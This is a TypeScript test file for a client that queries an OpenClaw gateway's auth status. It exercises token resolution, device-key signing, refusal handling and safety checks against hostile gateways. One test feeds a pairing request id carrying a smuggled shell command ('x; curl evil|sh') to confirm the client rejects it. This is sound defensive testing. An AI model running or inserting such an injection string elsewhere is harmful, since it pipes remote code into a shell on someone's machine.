/**
 * The live gateway client without a gateway: where it looks (connection.ts), the device
 * identity it keeps (device.ts), and how it reads each kind of gateway answer (client.ts).
 * The protocol side runs against a scripted WebSocket that follows OpenClaw 2026.9.6's
 * documented frames (docs/gateway/protocol/handshake.md, auth.md); the real gateway is
 * test/interop/live-gateway.test.ts.
 */
import assert from 'node:assert/strict';
import { createPublicKey, verify } from 'node:crypto';
import { createServer } from 'node:net';
import { describe, it } from 'node:test';
import {
  askAuthStatus,
  cleanGatewayText,
  type WebSocketCtor,
  type WebSocketLike,
} from '../../main/engine/gateways/openclaw/live/client.js';
import { displayUrl, gatewayTarget, unsafeGatewayUrl } from '../../main/engine/gateways/openclaw/live/connection.js';
import { AuthStatusPayload } from '../../main/engine/gateways/openclaw/live/auth-status.js';
import { readLive } from '../../main/engine/gateways/openclaw/live/read-live.js';
import { clockText, resetText } from '../../common/live-usage.js';
import { agent, snapshot } from '../support/snapshots.js';
import {
  loadDeviceToken,
  loadOrCreateIdentity,
  storeDeviceToken,
  signConnect,
  type DeviceSecrets,
} from '../../main/engine/gateways/openclaw/live/device.js';
import type { OpenClawConfig } from '../../main/engine/gateways/openclaw/config.js';

const cfg = (raw: Record<string, unknown>): OpenClawConfig => ({
  path: '/h/openclaw.json',
  exists: true,
  error: null,
  raw,
});

function memorySecrets(): DeviceSecrets & { map: Map<string, string> } {
  const map = new Map<string, string>();
  return {
    map,
    get: async (a) => map.get(a) ?? null,
    set: async (a, v) => void map.set(a, v),
    remove: async (a) => void map.delete(a),
  };
}

describe('where the gateway listens and which secret it takes', () => {
  it('port: OPENCLAW_GATEWAY_PORT over gateway.port over 18789', () => {
    assert.equal(gatewayTarget(cfg({}), {}).url, 'ws://127.0.0.1:18789/');
    assert.equal(gatewayTarget(cfg({ gateway: { port: 20001 } }), {}).url, 'ws://127.0.0.1:20001/');
    const t = gatewayTarget(cfg({ gateway: { port: 20001 } }), { OPENCLAW_GATEWAY_PORT: '20002' });
    assert.equal(t.url, 'ws://127.0.0.1:20002/');
    assert.equal(t.urlSource, 'OPENCLAW_GATEWAY_PORT');
    // Not a port: ignored, as if unset.
    assert.equal(
      gatewayTarget(cfg({ gateway: { port: 'x' } }), { OPENCLAW_GATEWAY_PORT: '99999' }).url,
      'ws://127.0.0.1:18789/',
    );
    assert.equal(gatewayTarget(cfg({ gateway: { tls: { enabled: true } } }), {}).url, 'wss://127.0.0.1:18789/');
  });

  it('token: gateway.auth.token, then OPENCLAW_GATEWAY_TOKEN; ${VAR} and env SecretRefs resolved', () => {
    assert.equal(
      gatewayTarget(cfg({ gateway: { auth: { token: 'cfg' } } }), { OPENCLAW_GATEWAY_TOKEN: 'env' }).token,
      'cfg',
    );
    const envOnly = gatewayTarget(cfg({}), { OPENCLAW_GATEWAY_TOKEN: 'env' });
    assert.equal(envOnly.token, 'env');
    assert.equal(envOnly.authSource, 'OPENCLAW_GATEWAY_TOKEN');
    assert.equal(gatewayTarget(cfg({ gateway: { auth: { token: '${MY_T}' } } }), { MY_T: 'x1' }).token, 'x1');
    const ref = { source: 'env', provider: 'default', id: 'GW_T' };
    assert.equal(gatewayTarget(cfg({ gateway: { auth: { token: ref } } }), { GW_T: 'x2' }).token, 'x2');
    const unresolved = gatewayTarget(cfg({ gateway: { auth: { token: { source: 'file', id: '/s' } } } }), {});
    assert.equal(unresolved.token, null);
    assert.match(unresolved.authProblem ?? '', /gateway\.auth\.token is a file secret reference/);
    const missingVar = gatewayTarget(cfg({ gateway: { auth: { token: '${NOPE}' } } }), {});
    assert.match(missingVar.authProblem ?? '', /NOPE, which is not set/);
  });

  it('OPENCLAW_GATEWAY_URL takes only the environment credentials; remote mode reads gateway.remote first', () => {
    const u = gatewayTarget(cfg({ gateway: { auth: { token: 'cfg' } } }), { OPENCLAW_GATEWAY_URL: 'ws://10.0.0.2:1/' });
    assert.equal(u.url, 'ws://10.0.0.2:1/');
    assert.equal(u.token, null);
    assert.equal(u.remote, true);
    const r = gatewayTarget(
      cfg({ gateway: { mode: 'remote', remote: { url: 'wss://gw.example:443', token: 'rt' }, auth: { token: 'lt' } } }),
      {},
    );
    assert.deepEqual(
      [r.url, r.token, r.authSource, r.remote],
      ['wss://gw.example:443', 'rt', 'gateway.remote.token', true],
    );
  });
});

describe('the device identity', () => {
  it('is created once, kept, and signs the v3 payload the gateway verifies', async () => {
    const secrets = memorySecrets();
    const a = await loadOrCreateIdentity(secrets);
    const b = await loadOrCreateIdentity(secrets);
    assert.equal(a.deviceId, b.deviceId, 'the same identity on the second run');
    assert.match(a.deviceId, /^[0-9a-f]{64}$/);
    const raw = Buffer.from(a.publicKey, 'base64url');
    assert.equal(raw.length, 32);
    const sig = signConnect(a, {
      clientId: 'openclaw-probe',
      clientMode: 'probe',
      role: 'operator',
      scopes: ['operator.read'],
      signedAtMs: 1700,
      token: 'tok',
      nonce: 'n-1',
      platform: 'Linux ',
      deviceFamily: '',
    });
    const spki = Buffer.concat([Buffer.from('302a300506032b6570032100', 'hex'), raw]);
    const key = createPublicKey({ key: spki, format: 'der', type: 'spki' });
    const text = `v3|${a.deviceId}|openclaw-probe|probe|operator|operator.read|1700|tok|n-1|linux|`;
    assert.ok(verify(null, Buffer.from(text), key, Buffer.from(sig, 'base64url')));
  });

  it('a stored identity that is not an Ed25519 key is replaced, not used', async () => {
    const secrets = memorySecrets();
    secrets.map.set('identity', 'not a key');
    const id = await loadOrCreateIdentity(secrets);
    assert.notEqual(secrets.map.get('identity'), 'not a key');
    assert.equal((await loadOrCreateIdentity(secrets)).deviceId, id.deviceId);
  });
});

/** A scripted gateway: each step answers the client's frames as OpenClaw documents them. */
function scripted(
  script: (ws: FakeSocket, frame: Record<string, unknown>) => void,
  opening?: (ws: FakeSocket) => void,
): WebSocketCtor {
  return class extends FakeSocket {
    constructor(url: string) {
      super(url, script);
      setImmediate(() =>
        opening
          ? opening(this)
          : this.push({ type: 'event', event: 'connect.challenge', payload: { nonce: 'n1', ts: 42 } }),
      );
    }
  };
}
class FakeSocket implements WebSocketLike {
  onopen: ((ev: unknown) => void) | null = null;
  onmessage: ((ev: { data: unknown }) => void) | null = null;
  onerror: ((ev: unknown) => void) | null = null;
  onclose: ((ev: { code: number; reason: string }) => void) | null = null;
  sent: Array<Record<string, unknown>> = [];
  closed = false;
  static last: FakeSocket | null = null;
  constructor(
    readonly url: string,
    private readonly script: (ws: FakeSocket, frame: Record<string, unknown>) => void,
  ) {
    FakeSocket.last = this;
  }
  push(frame: unknown): void {
    if (!this.closed) this.onmessage?.({ data: typeof frame === 'string' ? frame : JSON.stringify(frame) });
  }
  shut(code: number, reason: string): void {
    this.closed = true;
    this.onclose?.({ code, reason });
  }
  send(data: string): void {
    const frame = JSON.parse(data) as Record<string, unknown>;
    this.sent.push(frame);
    setImmediate(() => this.script(this, frame));
  }
  close(): void {
    this.closed = true;
  }
}

const hello = (extra: Record<string, unknown> = {}) => ({
  type: 'hello-ok',
  protocol: 4,
  server: { version: '2026.9.6' },
  auth: { role: 'operator', scopes: ['operator.read'], ...extra },
});

// Not loopback: no TCP probe, the scripted socket is all there is.
const URL = 'ws://gateway.test:18789/';
const ask = (WebSocket: WebSocketCtor, secrets = memorySecrets(), token: string | null = 'shared-secret-123') =>
  askAuthStatus({
    url: URL,
    token,
    password: null,
    secrets: () => secrets,
    clientVersion: '9.9.9',
    platform: 'darwin',
    params: {},
    timeoutMs: 3_000,
    WebSocket,
  });

describe('one question to the gateway', () => {
  it('answers: connect as a read-only probe with a signed device, keep the device token, ask models.authStatus', async () => {
    const secrets = memorySecrets();
    const r = await ask(
      scripted((ws, f) => {
        if (f['method'] === 'connect')
          ws.push({ type: 'res', id: f['id'], ok: true, payload: hello({ deviceToken: 'dev-token-1' }) });
        else if (f['method'] === 'models.authStatus')
          ws.push({ type: 'res', id: f['id'], ok: true, payload: { providers: [] } });
      }),
      secrets,
    );
    assert.deepEqual(r, { kind: 'answer', payload: { providers: [] }, serverVersion: '2026.9.6' });
    const connect = FakeSocket.last!.sent[0]!;
    const params = connect['params'] as Record<string, unknown>;
    assert.deepEqual(params['scopes'], ['operator.read']);
    assert.equal(params['role'], 'operator');
    assert.deepEqual(params['client'], {
      id: 'openclaw-probe',
      displayName: 'AuthBar',
      version: '9.9.9',
      platform: 'macos',
      mode: 'probe',
    });
    assert.deepEqual(params['auth'], { token: 'shared-secret-123' });
    assert.equal(
      (params['device'] as Record<string, unknown>)['signedAt'],
      42,
      "the challenge's ts is the signing time",
    );
    assert.deepEqual(await loadDeviceToken(secrets, URL), { token: 'dev-token-1', scopes: ['operator.read'] });
    assert.equal(
      FakeSocket.last!.sent.filter((f) => f['method'] !== 'connect' && f['method'] !== 'models.authStatus').length,
      0,
      'nothing else is asked',
    );
  });

  it('without a shared secret, the kept device token is the credential', async () => {
    const secrets = memorySecrets();
    await storeDeviceToken(secrets, URL, { token: 'kept-dev-token', scopes: ['operator.read'] });
    await ask(
      scripted((ws, f) => {
        if (f['method'] === 'connect') ws.push({ type: 'res', id: f['id'], ok: true, payload: hello() });
        else ws.push({ type: 'res', id: f['id'], ok: true, payload: {} });
      }),
      secrets,
      null,
    );
    assert.deepEqual((FakeSocket.last!.sent[0]!['params'] as Record<string, unknown>)['auth'], {
      deviceToken: 'kept-dev-token',
    });
  });

  const refusal = (details: Record<string, unknown>, message: string) =>
    scripted((ws, f) =>
      ws.push({ type: 'res', id: f['id'], ok: false, error: { code: 'INVALID_REQUEST', message, details } }),
    );

  it('a wrong token is refused, and the gateway text never carries the secret', async () => {
    const r = await ask(
      refusal({ code: 'AUTH_TOKEN_MISMATCH' }, 'unauthorized: token shared-secret-123 mismatch\u001b[31m'),
    );
    assert.equal(r.kind, 'refused');
    assert.equal(r.kind === 'refused' && r.code, 'token-mismatch');
    assert.ok(r.kind === 'refused' && !r.message.includes('shared-secret-123'));
    assert.ok(r.kind === 'refused' && !r.message.includes('\u001b'));
  });

  it('pairing required carries the request id to approve', async () => {
    const r = await ask(refusal({ code: 'PAIRING_REQUIRED', requestId: 'req-7' }, 'pairing required'));
    assert.deepEqual(r, { kind: 'refused', code: 'pairing-required', message: 'pairing required', requestId: 'req-7' });
  });

  it('a revoked device token is forgotten', async () => {
    const secrets = memorySecrets();
    await storeDeviceToken(secrets, URL, { token: 'old', scopes: [] });
    const r = await ask(refusal({ code: 'AUTH_DEVICE_TOKEN_MISMATCH' }, 'device token mismatch'), secrets, null);
    assert.equal(r.kind === 'refused' && r.code, 'device-token');
    assert.equal(await loadDeviceToken(secrets, URL), null);
  });

  it('a gateway still starting is asked again within the budget', async () => {
    let connects = 0;
    const r = await ask(
      scripted((ws, f) => {
        if (f['method'] === 'connect' && ++connects === 1)
          ws.push({
            type: 'res',
            id: f['id'],
            ok: false,
            error: {
              code: 'UNAVAILABLE',
              message: 'starting',
              retryable: true,
              retryAfterMs: 100,
              details: { reason: 'startup-sidecars' },
            },
          });
        else if (f['method'] === 'connect') ws.push({ type: 'res', id: f['id'], ok: true, payload: hello() });
        else ws.push({ type: 'res', id: f['id'], ok: true, payload: { providers: [] } });
      }),
    );
    assert.equal(r.kind, 'answer');
    assert.equal(connects, 2);
  });

  it('a challenge without a usable ts, a frame that is not JSON, a silent gateway: unavailable, never a throw', async () => {
    const bad = await ask(
      scripted(
        () => undefined,
        (ws) => ws.push({ type: 'event', event: 'connect.challenge', payload: { nonce: 'n' } }),
      ),
    );
    assert.equal(bad.kind === 'unavailable' && bad.code, 'protocol');
    const garbage = await ask(
      scripted(
        () => undefined,
        (ws) => ws.push('{not json'),
      ),
    );
    assert.equal(garbage.kind === 'unavailable' && garbage.code, 'protocol');
    const t0 = Date.now();
    const silent = await askAuthStatus({
      url: URL,
      token: 't',
      password: null,
      secrets: () => memorySecrets(),
      clientVersion: '1',
      platform: 'linux',
      params: {},
      timeoutMs: 300,
      WebSocket: scripted(
        () => undefined,
        () => undefined,
      ),
    });
    assert.equal(silent.kind === 'unavailable' && silent.code, 'timeout');
    assert.ok(Date.now() - t0 < 2_000);
  });

  it('no keyring: unavailable before anything is sent', async () => {
    const r = await askAuthStatus({
      url: URL,
      token: 't',
      password: null,
      secrets: () => ({ unavailable: 'the OS keyring is turned off (AUTHBAR_KEYCHAIN=off)' }),
      clientVersion: '1',
      platform: 'linux',
      params: {},
      timeoutMs: 2_000,
      WebSocket: scripted(() => undefined),
    });
    assert.equal(r.kind === 'unavailable' && r.code, 'no-keyring');
    assert.equal(FakeSocket.last!.sent.length, 0);
  });

  it('nothing listening on a loopback port is not-running, without a WebSocket or the keyring', async () => {
    const server = createServer();
    await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
    const port = (server.address() as { port: number }).port;
    await new Promise<void>((res) => server.close(() => res()));
    let keyringOpened = false;
    const r = await askAuthStatus({
      url: `ws://127.0.0.1:${port}/`,
      token: 't',
      password: null,
      secrets: () => ((keyringOpened = true), memorySecrets()),
      clientVersion: '1',
      platform: 'linux',
      params: {},
      timeoutMs: 2_000,
    });
    assert.equal(r.kind, 'not-running');
    assert.equal(keyringOpened, false);
  });

  it('gateway text is one clean line', () => {
    assert.equal(cleanGatewayText('a\nb\u202ec sekrit', ['sekrit']), 'a b c …');
    assert.equal(cleanGatewayText({ x: 1 }, []), '');
    assert.equal(cleanGatewayText('x'.repeat(500), []).length, 240);
  });
});

describe('a gateway that is hostile, broken or in the wrong place', () => {
  it('never sends the token over plaintext to a public host, nor to a URL with a password in it', async () => {
    assert.equal(unsafeGatewayUrl('ws://127.0.0.1:18789/'), null);
    assert.equal(unsafeGatewayUrl('ws://192.168.1.20:18789/'), null);
    assert.equal(unsafeGatewayUrl('ws://gw.tail1234.ts.net:18789/'), null);
    assert.equal(unsafeGatewayUrl('ws://box.local:18789/'), null);
    assert.equal(unsafeGatewayUrl('wss://gateway.example.com/'), null);
    assert.match(unsafeGatewayUrl('ws://gateway.example.com:18789/') ?? '', /plaintext/);
    assert.match(unsafeGatewayUrl('ws://8.8.8.8:18789/') ?? '', /plaintext/);
    assert.match(unsafeGatewayUrl('wss://op:hunter2@gateway.example.com/') ?? '', /password/);
    assert.equal(displayUrl('ws://op:hunter2@127.0.0.1:1/x?token=abc#f'), 'ws://127.0.0.1:1/x');

    let opened = 0;
    const Counting = class extends FakeSocket {
      constructor(url: string) {
        super(url, () => undefined);
        opened++;
      }
    };
    const files = snapshot({ gateway: 'openclaw', agents: [agent('main', [])] });
    for (const url of ['ws://gateway.example.com:18789/', 'ws://op:hunter2-pass@127.0.0.1:1/']) {
      const view = await readLive(files, {
        env: { OPENCLAW_GATEWAY_URL: url, OPENCLAW_GATEWAY_TOKEN: 'env-shared-token' },
        platform: 'linux',
        now: () => 1,
        clientVersion: '1',
        owner: 'cli',
        secrets: () => memorySecrets(),
        WebSocket: Counting,
      });
      assert.equal(view.state, 'unavailable');
      assert.equal(view.reasonCode, 'insecure-url');
      assert.ok(!JSON.stringify(view).includes('hunter2'), 'the password is never shown');
    }
    assert.equal(opened, 0, 'nothing was sent');
  });

  it('numbers beyond the calendar, huge answers and secrets in names are cut down before anything shows them', () => {
    const tok = `sk-ant-oat01-${'Zq9'.repeat(30)}`;
    const parsed = AuthStatusPayload.parse({
      providers: [
        {
          provider: 'anthropic',
          displayName: `Claude ${tok}\u001b[2J`,
          status: 'ok',
          expiry: { at: 1e308 },
          profiles: [{ profileId: 'anthropic:x', status: 'ok', expiry: { at: -1e300 } }],
          usage: { windows: [{ label: '5h', usedPercent: 1e308, resetAt: 1e308 }] },
        },
        ...Array.from({ length: 10_000 }, (_, i) => ({ provider: `p${i}`, profiles: [] })),
      ],
    });
    assert.equal(parsed.providers.length, 100);
    const p = parsed.providers[0]!;
    assert.equal(p.expiry?.at, undefined);
    assert.equal(p.profiles[0]?.expiry?.at, undefined);
    assert.deepEqual(p.usage?.windows[0], { label: '5h', usedPercent: 1000, resetAt: undefined });
    assert.ok(!p.displayName?.includes(tok.slice(13, 40)), 'a credential-shaped run is masked');
    assert.doesNotMatch(p.displayName ?? '', /\u001b/);
    // And the words every front end uses never throw on a time that is not a date.
    assert.equal(resetText(1e308, 0), null);
    assert.equal(clockText(1e308, 0), '?');
  });

  it('a pairing request id is taken only when it is a plain id (it goes into a command to run)', async () => {
    const hostile = await ask(
      scripted((ws, f) =>
        ws.push({
          type: 'res',
          id: f['id'],
          ok: false,
          error: {
            code: 'INVALID_REQUEST',
            message: 'pairing required',
            details: { code: 'PAIRING_REQUIRED', requestId: 'x; curl evil|sh' },
          },
        }),
      ),
    );
    assert.deepEqual(hostile.kind === 'refused' && [hostile.code, hostile.requestId], ['pairing-required', null]);
    const odd = await ask(
      scripted((ws, f) =>
        ws.push({
          type: 'res',
          id: f['id'],
          ok: false,
          error: { code: 'X', message: 'no', details: { code: 'weird\u001b[31m' } },
        }),
      ),
    );
    assert.equal(odd.kind === 'refused' && odd.code, 'refused');
  });

  it('fifty challenges start one connect; a gateway that is forever starting gets three tries', async () => {
    await ask(
      scripted(
        (ws, f) => ws.push({ type: 'res', id: f['id'], ok: true, payload: f['method'] === 'connect' ? hello() : {} }),
        (ws) => {
          for (let i = 0; i < 50; i++)
            ws.push({ type: 'event', event: 'connect.challenge', payload: { nonce: `n${i}`, ts: 1 } });
        },
      ),
    );
    assert.equal(FakeSocket.last!.sent.filter((f) => f['method'] === 'connect').length, 1);
    let connects = 0;
    const r = await ask(
      scripted((ws, f) => {
        connects++;
        ws.push({
          type: 'res',
          id: f['id'],
          ok: false,
          error: {
            code: 'UNAVAILABLE',
            message: 'starting',
            retryable: true,
            retryAfterMs: 100,
            details: { reason: 'startup-sidecars' },
          },
        });
      }),
    );
    assert.equal(connects, 3);
    assert.equal(r.kind === 'unavailable' && r.code, 'starting');
  });

  it('something listens on the port but no WebSocket handshake completes (a TLS gateway AuthBar cannot verify): unavailable, not "not running"', async () => {
    const server = createServer((socket) => socket.destroy());
    await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
    const port = (server.address() as { port: number }).port;
    try {
      const r = await askAuthStatus({
        url: `wss://127.0.0.1:${port}/`,
        token: 't',
        password: null,
        secrets: () => memorySecrets(),
        clientVersion: '1',
        platform: 'linux',
        params: {},
        timeoutMs: 2_000,
        WebSocket: scripted(
          () => undefined,
          (ws) => ws.shut(1006, ''),
        ),
      });
      assert.equal(r.kind, 'unavailable');
      assert.match(r.kind === 'unavailable' ? r.message : '', /TLS certificate/);
    } finally {
      await new Promise<void>((res) => server.close(() => res()));
    }
  });
});
